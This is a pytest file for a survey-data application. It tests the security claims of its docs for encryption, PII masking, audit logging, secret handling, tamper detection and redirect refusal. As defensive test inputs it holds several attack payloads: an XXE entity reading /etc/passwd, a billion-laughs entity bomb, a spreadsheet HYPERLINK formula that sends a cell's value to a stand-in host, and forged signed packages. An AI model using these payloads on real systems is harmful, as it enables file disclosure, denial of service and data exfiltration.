"""What docs/security.md claims, tested: what is protected, and — just as plainly — what is not."""

from __future__ import annotations

import gzip
import io
import logging
import os
import socket
from models.base.driver import sqlite3
import zipfile
from pathlib import Path

import keyring
import pytest

from exports.tabular import make_filter, run_export
from models.exchange.keys import identity, read_public_key, write_public_key
from models.exchange.packages import export_package, import_into, read_package, records_from_package
from models.records.editor import RecordEditor
from models.store.database import open_store
from models.sync import credentials
from tests.models.pkg_helpers import add_household, make_db
from tests.reliability.forge import Parts, attacker_identity
from tests.reliability.helpers import drain, run_cli
from tests.sync_fixtures import MemoryKeyring

SECRET_TOKEN = "tokSECRETq8ZtY7mM2b9XaY3k"
SECRET_PASSWORD = "mật-khẩu-BÍ-MẬT-7781"


@pytest.fixture
def enumerator(tmp_path):
    st = make_db(tmp_path / "e.db", name="Nguyễn Văn An", code="E01")
    rid = add_household(st, "Phạm Thị Hồng Nhung", phone="0912345678", members=1, complete=True)
    yield st, rid
    st.close()


def _raw(db) -> bytes:
    from pathlib import Path

    return b"".join(Path(p).read_bytes() for p in (str(db), f"{db}-wal") if os.path.exists(p))


# ---------------------------------------------------------------------------------------- not protected (yet)


def test_a_database_made_without_a_pin_is_not_encrypted(enumerator):
    """Scripted use without ``KHAOSAT_PIN`` (and databases of older versions until their first start
    in the application) stay plain: a stolen copy of such a file gives away the answers and the
    installation's private keys. The application's own start always encrypts (tests/ui/test_lock.py,
    tests/models/test_encryption.py)."""
    st, _rid = enumerator
    st.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    assert "Phạm Thị Hồng Nhung".encode() in _raw(st.path)
    conn = sqlite3.connect(st.path)  # no key, no password
    priv = conn.execute("SELECT private FROM pkg_identity WHERE kind = 'sign'").fetchone()[0]
    conn.close()
    assert len(priv) == 32
    assert identity(st).sign_private == bytes(priv)


def test_backups_of_a_plain_database_are_plain_copies(enumerator, tmp_path):
    from models.store.backup import backup_now

    st, _rid = enumerator
    res = backup_now(st, tmp_path / "usb")
    with open(res.path, "rb") as fh:
        assert "Phạm Thị Hồng Nhung".encode() in fh.read()


def test_a_package_made_with_an_attackers_key_cannot_replace_a_record(enumerator, tmp_path):
    """Signatures prove which key made a package, not that the key belongs to the person named in it.
    A forged newer revision signed by another key is refused when it claims the real device (both
    fingerprints are named); under a device of its own it is held as a conflict beside the real version,
    which stays current. The safety copy before the import holds the earlier version, and the provenance
    of the held revision is recorded."""
    from models.exchange.merge import VERSION_FIELDS, leaves_of
    from models.store.revisions import content_hash, make_rev

    st, rid = enumerator
    export_package(st, tmp_path / "real.ksp")
    clerk = make_db(tmp_path / "clerk.db", role="clerk", name="Cán bộ xã", code="C01", forms=False)
    clerk.set_settings({"backup_folder": str(tmp_path / "usb")})
    drain(import_into(clerk, [str(tmp_path / "real.ksp")]))
    p = Parts.of((tmp_path / "real.ksp").read_bytes())
    versions = p.lines("records.jsonl.gz")
    v = next(x for x in versions if x["id"] == rid)
    v["answers"]["head_name"] = v["data"]["head_name"] = "Tên bị sửa"
    v["ancestry"] = [*v["ancestry"], v["rev"]]
    v["rev_gen"] += 1
    v["content_hash"] = content_hash(v)
    v["rev"] = make_rev(v["rev_gen"], v["ancestry"][-1], v["content_hash"])
    p.set_lines("records.jsonl.gz", [{k: x[k] for k in VERSION_FIELDS} for x in versions])
    p.manifest["package_id"] = "forged-1"
    p.refresh_digests()
    forger = attacker_identity()
    (tmp_path / "forged.ksp").write_bytes(p.build(forger))
    [s] = drain(import_into(clerk, [str(tmp_path / "forged.ksp")]))
    assert s.refused and s.key_changed and s.known_fingerprint == identity(st).fingerprint
    assert forger.fingerprint in s.reason and identity(st).fingerprint in s.reason
    assert clerk.record(rid)["answers"]["head_name"] == "Phạm Thị Hồng Nhung"

    p.manifest["sender"]["device_id"] = "a-new-device"
    (tmp_path / "forged2.ksp").write_bytes(p.build(forger))
    [s] = drain(import_into(clerk, [str(tmp_path / "forged2.ksp")]))
    assert not s.refused and s.updated == 0 and s.held == 1 and s.held_ids == [rid] and s.conflict_ids == []
    assert not s.sender_known and not s.sender_trusted and s.sender == "Nguyễn Văn An"  # the name is a claim
    assert s.sender_fingerprint == forger.fingerprint != identity(st).fingerprint
    assert clerk.record(rid)["answers"]["head_name"] == "Phạm Thị Hồng Nhung"  # the real version stays current
    assert {x["answers"]["head_name"] for x in leaves_of(clerk, rid)} == {"Phạm Thị Hồng Nhung", "Tên bị sửa"}
    assert records_from_package(clerk, "forged-1") == [{"record_id": rid, "rev": v["rev"], "outcome": "held"}]
    assert s.backup == "made"
    import shutil

    from models.exchange.journal import restore
    from models.store.backup import list_restore_points

    # the newest restore point: made just before the forged package (the full copy before the first
    # import, and the real package imported again on top of it); restored into a copy of the database
    before = list_restore_points(tmp_path / "usb")[0]
    assert before.suffix == ".point"
    clerk.close()
    shutil.copyfile(tmp_path / "clerk.db", tmp_path / "restored.db")
    restore(tmp_path / "restored.db", before)
    old = sqlite3.connect(tmp_path / "restored.db")
    assert "Phạm Thị Hồng Nhung" in old.execute("SELECT answers FROM records WHERE id = ?", [rid]).fetchone()[0]
    assert old.execute("SELECT count(*) FROM record_conflicts").fetchone()[0] == 0  # nothing of the forgeries
    old.close()


# ---------------------------------------------------------------------------------------- protected


def test_an_encrypted_package_hides_the_records_but_not_its_envelope(enumerator, tmp_path):
    st, _rid = enumerator
    prov = make_db(tmp_path / "prov.db", role="province", name="Sở KH&CN", code="P01", forms=False)
    write_public_key(prov, tmp_path / "prov.pub")
    export_package(st, tmp_path / "enc.ksp", to=read_public_key(tmp_path / "prov.pub"))
    data = (tmp_path / "enc.ksp").read_bytes()
    zf = zipfile.ZipFile(io.BytesIO(data))
    manifest = zf.read("manifest.json").decode()
    for name in zf.namelist()[2:]:
        with pytest.raises(OSError):
            gzip.decompress(zf.read(name))  # ciphertext, not gzip
    for secret in ("Phạm Thị Hồng Nhung", "0912345678", "head_name"):
        assert secret not in manifest and secret.encode() not in data
    # what the envelope does say: who sent it, for whom, how many records, which forms
    for visible in ("Nguyễn Văn An", "Sở KH&CN", '"records": 1', "pkg_hh"):
        assert visible in manifest
    assert read_package(tmp_path / "enc.ksp").readable is False
    prov.close()


def test_personal_data_is_masked_or_dropped_in_exports(enumerator, tmp_path):
    import pandas as pd

    st, _rid = enumerator
    for personal in ("mask", "drop"):
        res = run_export(st, out=str(tmp_path / personal), fmt="csv", filter=make_filter(), personal=personal)
        text = "".join(Path(f).read_text(encoding="utf-8-sig") for f in res.files)
        assert "Phạm Thị Hồng Nhung" not in text and "0912345678" not in text
        if personal == "mask":
            df = pd.read_csv(next(f for f in res.files if f.endswith("pkg_hh.csv")), dtype=str)
            assert df.loc[0, "head_name"] == "P*** T** H*** N****" and df.loc[0, "phone"] == "*******678"


PII_FORM = """| survey |
| | type | name | label | pii |
| | text | resp | Người trả lời | hash |
| | text | cccd | Số CCCD | hash |
| | text | phone | Điện thoại | blank |
| | text | email | E-mail | |
| | text | comment | Ghi chú | no |
| | integer | size | Số người | |
| settings |
| | form_id | version | form_title |
| | pii_test | 1 | Kiểm tra PII |
"""


def test_mask_pii_replaces_personal_values_by_salted_hashes_or_blanks(tmp_path):
    import csv

    from forms import load_form
    from models.records.editor import create_record

    st = make_db(tmp_path / "p.db", forms=False)
    st.add_form(load_form(PII_FORM))
    people = [("Trần Văn Bình", "001085012345", "0912345678", "binh@example.vn"),
              ("Lê Thị Hoa", "001190054321", "0987654321", "hoa@example.vn"),
              ("Trần Văn Bình", "001085012345", "0912345678", "binh@example.vn")]
    for name, cccd, phone, email in people:
        ed = RecordEditor(st, create_record(st, "pii_test"))
        for k, v in (("resp", name), ("cccd", cccd), ("phone", phone), ("email", email), ("comment", "Tốt"),
                     ("size", "4")):
            ed.set(k, v)
    out = tmp_path / "out"
    code, _stdout, err = run_cli(["export", "--db", st.path, "--format", "csv", "--out", str(out), "--mask-pii"])
    assert code == 0, err
    text = (out / "pii_test.csv").read_text(encoding="utf-8-sig")
    for person in people:
        for value in person:
            assert value not in text and value.split("@")[0] not in text
    rows = list(csv.DictReader(text.splitlines()))
    assert [r["phone"] for r in rows] == ["", "", ""]  # pii = blank
    assert rows[0]["resp"] == rows[2]["resp"] != rows[1]["resp"] and len(rows[0]["resp"]) == 16  # same person, same hash
    assert rows[0]["cccd"] == rows[2]["cccd"] and rows[0]["email"] == rows[2]["email"] != ""  # e-mail: by its name
    assert [r["comment"] for r in rows] == ["Tốt"] * 3 and [r["size"] for r in rows] == ["4"] * 3
    # a second export uses another salt: hashes cannot be matched across files handed out separately
    code, _stdout, err = run_cli(["export", "--db", st.path, "--format", "csv", "--out", str(tmp_path / "o2"),
                                  "--mask-pii"])
    again = list(csv.DictReader((tmp_path / "o2" / "pii_test.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert again[0]["resp"] != rows[0]["resp"]
    code, _stdout, err = run_cli(["export", "--db", st.path, "--format", "csv", "--out", str(tmp_path / "o3"),
                                  "--mask-pii", "--personal", "drop", "--lang", "en"])
    assert code == 1 and "--mask-pii cannot be used together with --personal drop" in err
    assert not (tmp_path / "o3").exists()
    st.close()


def test_every_change_is_in_the_audit_trail(enumerator):
    st, rid = enumerator
    RecordEditor(st, rid, user="Nguyễn Văn An").set("phone", "0987654321")
    *_, change, status = st.audit(rid)  # editing a complete record also reopens it
    assert (change["action"], change["path"], change["old"], change["new"], change["user"]) == (
        "set", "phone", "0912345678", "0987654321", "Nguyễn Văn An")
    assert (status["action"], status["old"], status["new"]) == ("status", "complete", "draft")
    assert change["device_id"] == st.device_id and change["rev"] == st.record(rid)["rev"]


@pytest.fixture
def memory_keyring(monkeypatch):
    kr = MemoryKeyring()
    prev = keyring.get_keyring()
    keyring.set_keyring(kr)
    monkeypatch.delenv(credentials.ENV_PASSWORD, raising=False)
    yield kr
    keyring.set_keyring(prev)


def _closed_port() -> int:
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    return port


def test_sync_secrets_stay_out_of_the_database_messages_and_log(tmp_path, memory_keyring, monkeypatch):
    import time

    from models.base.paths import log_path
    from tests.sync_fixtures import make_db as sync_db

    monkeypatch.setattr(time, "sleep", lambda s: None)  # no waiting between the retries
    db = str(tmp_path / "xa.db")
    sync_db(db, records=1)
    port = _closed_port()
    link = f"https://127.0.0.1:{port}/v1/key/{SECRET_TOKEN}/projects/3"
    logging.getLogger("khaosat").error("marker before the sync")
    code, out, err = run_cli(["sync", "--db", db, "--server", link, "--save", "--timeout", "2"])
    assert code == 2 and err
    monkeypatch.setenv(credentials.ENV_PASSWORD, SECRET_PASSWORD)
    code2, out2, err2 = run_cli(["sync", "--db", db, "--server", f"https://127.0.0.1:{port}", "--project", "3",
                                 "--user", "canbo@xa.vn", "--timeout", "2"])
    assert code2 == 2
    shown = out + err + out2 + err2
    assert SECRET_TOKEN not in shown and SECRET_PASSWORD not in shown
    assert SECRET_TOKEN in memory_keyring.items.values()  # kept, but only in the key store
    raw = _raw(db)
    assert SECRET_TOKEN.encode() not in raw and SECRET_PASSWORD.encode() not in raw
    log = log_path().read_text(encoding="utf-8", errors="replace")
    assert SECRET_TOKEN not in log and SECRET_PASSWORD not in log
    st = open_store(db)
    logged = " ".join(str(r) for r in st.execute("SELECT * FROM sync_log").fetchall())
    st.close()
    assert SECRET_TOKEN not in logged and SECRET_PASSWORD not in logged


def test_tampering_is_detected(enumerator, tmp_path):
    """Any changed byte of a package is refused (tests/models/test_packages_props.py flips every
    position); here: a record changed and the digests fixed, but the sender's signature kept."""
    st, _rid = enumerator
    export_package(st, tmp_path / "p.ksp")
    p = Parts.of((tmp_path / "p.ksp").read_bytes())
    rows = p.lines("records.jsonl.gz")
    rows[0]["answers"]["phone"] = "0999999999"
    p.set_lines("records.jsonl.gz", rows)
    p.refresh_digests()
    (tmp_path / "t.ksp").write_bytes(p.build(None))
    clerk = make_db(tmp_path / "c.db", role="clerk", forms=False)
    [s] = drain(import_into(clerk, [str(tmp_path / "t.ksp")], backup=False))
    assert s.refused and "signature" in s.reason_en and clerk.count_records() == 0
    clerk.close()


def test_an_unexpected_error_does_not_log_the_token_of_the_command_line(tmp_path, memory_keyring, monkeypatch):
    """An unexpected error is logged with the command's name, not its arguments (a link holds a token)."""
    import models.sync.service
    from models.base.paths import log_path
    from tests.sync_fixtures import make_db as sync_db

    db = str(tmp_path / "xa.db")
    sync_db(db, records=1)

    def boom(*a, **k):
        raise RuntimeError("something nobody expected")
        yield

    monkeypatch.setattr(models.sync.service, "run_sync", boom)
    link = f"https://central.example.invalid/v1/key/{SECRET_TOKEN}/projects/3"
    code, _out, err = run_cli(["sync", "--db", db, "--server", link])
    assert code == 3 and "không mong đợi" in err and SECRET_TOKEN not in err
    log = log_path().read_text(encoding="utf-8", errors="replace")
    assert "something nobody expected" in log and SECRET_TOKEN not in log


def test_a_redirect_is_not_followed_and_credentials_do_not_leave(tmp_path, memory_keyring, monkeypatch):
    """A captive portal or a man in the middle answering "302 go elsewhere": nothing is sent there."""
    import threading
    import time
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    from tests.sync_fixtures import make_db as sync_db

    seen: list[str] = []

    class Elsewhere(BaseHTTPRequestHandler):
        def do_HEAD(self):
            seen.append(self.headers.get("Authorization", "") + " " + self.path)
            self.send_response(204)
            self.send_header("X-OpenRosa-Version", "1.0")
            self.end_headers()

        do_GET = do_POST = do_HEAD

        def log_message(self, *a):
            pass

    other = ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)

    class Portal(BaseHTTPRequestHandler):
        def do_HEAD(self):
            self.send_response(302)
            self.send_header("Location", f"http://127.0.0.1:{other.server_port}{self.path}")
            self.end_headers()

        do_GET = do_POST = do_HEAD

        def log_message(self, *a):
            pass

    portal = ThreadingHTTPServer(("127.0.0.1", 0), Portal)
    for srv in (other, portal):
        threading.Thread(target=srv.serve_forever, daemon=True).start()
    monkeypatch.setattr(time, "sleep", lambda s: None)
    monkeypatch.setenv(credentials.ENV_PASSWORD, SECRET_PASSWORD)
    db = str(tmp_path / "xa.db")
    sync_db(db, records=1)
    try:
        code, out, err = run_cli(["sync", "--db", db, "--server", f"http://127.0.0.1:{portal.server_port}",
                                  "--project", "3", "--user", "canbo", "--timeout", "2"])
    finally:
        for srv in (portal, other):
            srv.shutdown()
            srv.server_close()
    assert code == 2 and seen == [], (out, err, seen)
    st = open_store(db)
    assert st.execute("SELECT count(*) FROM sync_outbox WHERE state = 'sent'").fetchone()[0] == 0
    st.close()


def test_an_xlsx_export_never_holds_formulas(enumerator, tmp_path):
    """A text answer that looks like a formula stays text in the workbook (inline strings)."""
    import openpyxl

    st, rid = enumerator
    RecordEditor(st, rid).set("village", '=HYPERLINK("http://example.invalid/?"&B2,"bấm")')
    res = run_export(st, out=str(tmp_path / "x.xlsx"), fmt="xlsx", filter=make_filter())
    wb = openpyxl.load_workbook(res.files[0])
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
    assert cells and all(c.data_type == "s" for c in cells)


def test_a_right_to_left_override_reverses_what_a_label_shows(qtbot):
    """Not protected (docs/security.md, 9): Qt applies U+202E, so a name can be made to look like
    another. Package error messages escape it (test_fuzz_packages.py); lists do not."""
    from PySide6.QtWidgets import QLabel

    def shown(text):
        label = QLabel(text)
        qtbot.addWidget(label)
        label.resize(240, 40)
        return label.grab().toImage()

    assert shown("\u202eABC.exe") == shown("exe.CBA") != shown("ABC.exe")


@pytest.mark.parametrize("attack", ["billion laughs", "external entity"])
def test_a_malicious_xlsform_workbook_is_refused(attack):
    """openpyxl reads workbooks with defusedxml (a pyxform dependency): entity tricks are refused."""
    from pyxform.xls2json_backends import md_table_to_workbook

    from forms import FormError, load_form

    wb = md_table_to_workbook("| survey |\n| | type | name | label |\n| | integer | a | A |\n")
    buf = io.BytesIO()
    wb.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    if attack == "billion laughs":
        ents = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
        doctype, ref = f"<!DOCTYPE w [{ents}]>", "&l9;"
    else:
        doctype, ref = '<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;"
    sheet = (f'<?xml version="1.0"?>{doctype}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
             f'2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{ref}</t></is></c></row>'
             "</sheetData></worksheet>").encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name in src.namelist():
            z.writestr(name, sheet if name == "xl/worksheets/sheet1.xml" else src.read(name))
    with pytest.raises(FormError) as e:
        load_form(out.getvalue(), file_type=".xlsx")
    assert e.value.problems and "root:" not in " ".join(e.value.lines("en"))


def test_the_attacks_of_issue_16_are_refused_held_or_flagged(tmp_path):
    """bench/attack.py: every attack that once got through (data/answers, generation inflation, commune
    and other metadata, gzip tail, a form too deep to read, CSV formulas, damaged databases at start and
    while working, a deleted write-ahead log) now ends as expected."""
    import importlib.util
    from pathlib import Path

    spec = importlib.util.spec_from_file_location("attack", Path(__file__).parents[2] / "bench" / "attack.py")
    attack = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(attack)
    res = attack.run(tmp_path)
    assert {k for k, c in res["cases"].items() if not c["ok"]} == set(), res
    assert len(res["cases"]) == 16
    assert {"db_damaged_while_saving", "wal_deleted"} <= set(res["cases"])
